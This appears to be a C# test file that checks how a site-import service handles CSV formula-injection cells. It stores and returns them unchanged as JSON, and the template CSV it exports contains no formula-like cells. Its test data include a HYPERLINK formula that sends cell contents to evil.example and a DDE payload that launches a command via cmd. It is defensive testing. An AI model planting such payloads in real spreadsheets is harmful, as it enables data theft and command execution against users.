using System.Net;
using SiteFinder.Domain.Sites;
using SiteFinder.Functions.Tests.Infrastructure;

namespace SiteFinder.Functions.Tests.Hostile;

/// <summary>
/// Formula-injection cells (=, +, -, @ first) are a district's text like any other: the import stores and
/// answers them exactly as given, as JSON, which no spreadsheet runs. The one CSV the app writes, the
/// template, goes through SpreadsheetCell (a leading quote), as any CSV written from stored text must.
/// </summary>
public sealed class FormulaCellTests(LocalHostFixture host) : IClassFixture<LocalHostFixture>
{
    [Theory]
    [InlineData("fx:1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击预约\")", "@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("fx:2", "+86采样点", "-2+3 人民大道")]
    public async Task Formula_cells_are_stored_and_answered_as_given_in_json(string sourceId, string name, string address)
    {
        static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var csv = "source_id,name,address,district,lng,lat,coord_system,hours\n" +
                  $"{sourceId},{Quote(name)},{Quote(address)},黄浦区,121.4737,31.2304,WGS-84,24小时\n";
        var (imported, report) = await host.ImportCsvAsync(csv);
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);
        Assert.Equal("application/json", imported.Content.Headers.ContentType?.MediaType);

        var id = SiteIds.FromSourceId(sourceId);
        var (site, stored) = await host.AdminAsync(HttpMethod.Get, $"manage/sites/{id}");
        Assert.Equal(HttpStatusCode.OK, site.StatusCode);
        Assert.Equal("application/json", site.Content.Headers.ContentType?.MediaType);
        Assert.Equal(name, stored.GetProperty("name").GetString());
        Assert.Equal(address, stored.GetProperty("address").GetString());
        Assert.Equal(1, report.GetProperty("summary").GetProperty("added").GetInt32());
    }

    [Fact]
    public async Task The_template_csv_has_no_cell_a_spreadsheet_would_run()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri("manage/sites/template.csv", UriKind.Relative));
        request.Headers.Add("x-admin-key", LocalHostFixture.AdminKey);
        request.Headers.Add("x-functions-key", LocalHostFixture.FunctionKey);
        using var response = await host.Client.SendAsync(request);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var cells = (await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF').Split("\r\n").SelectMany(l => l.Split(','));
        Assert.DoesNotContain(cells, Domain.Import.SpreadsheetCell.IsFormulaLike);
    }
}
